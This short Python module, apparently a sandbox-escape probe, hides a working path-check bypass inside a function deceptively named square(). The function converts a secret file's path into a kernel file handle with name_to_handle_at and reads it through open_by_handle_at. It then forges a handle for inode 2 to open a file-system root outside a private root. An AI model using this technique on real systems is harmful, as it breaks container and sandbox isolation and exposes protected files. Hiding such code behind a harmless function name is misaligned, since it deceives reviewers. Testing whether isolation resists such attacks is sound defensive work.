"""Turns a path into a handle and opens that: past checks of paths, and out of a private root."""
import ctypes
import os
import struct

import target
from raw import AT_FDCWD, attempt, syscall


def double(x):
    return 2 * x


def square(x):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    path = target.SECRET_FILE.encode()
    attempt("handle", lambda: syscall("name_to_handle_at", AT_FDCWD, path, handle, ctypes.byref(mount), 0) == 0)
    attempt("open", lambda: os.read(syscall("open_by_handle_at", AT_FDCWD, handle, 0), 100))
    guess = struct.pack("IiQ", 8, 1, 2)  # inode 2: the root of a file system
    attempt("open a guess", lambda: syscall("open_by_handle_at", 0, guess, os.O_PATH))
